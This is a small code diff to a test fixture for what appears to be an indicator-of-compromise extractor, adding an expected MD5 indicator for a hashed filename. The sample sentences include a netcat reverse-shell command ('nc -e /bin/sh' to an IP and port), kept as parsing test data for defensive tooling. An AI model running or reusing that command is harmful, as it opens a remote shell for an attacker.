@@ -130,7 +130,7 @@ export const FRESH_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
     ['version 9.1.0.2 runs on 10.0.0.5', 'ipv4 10.0.0.5'],
     ['nc -e /bin/sh 5.8.18.8 4243', 'unix-path /bin/sh', 'ipv4 5.8.18.8'],
     ['a mutex "Mutex" and the mutex "Global\\Mutex1"', 'mutex Global\\Mutex1'],
-    [`${MD5}.vir`, `filename ${MD5}.vir`],
+    [`${MD5}.vir`, `filename ${MD5}.vir`, `md5 ${MD5}`],
     ['Muster GmbH & Co.KG, evil.co.kg', 'hostname evil.co.kg'],
     ['versão 1.2.3.4, sezione 1.2.3.4 and rozdział 1.2.3.4'],
     ['bob[_at_]evil.com and al(-at-)evil[-dot-]com', 'email bob@evil.com', 'email al@evil.com'],
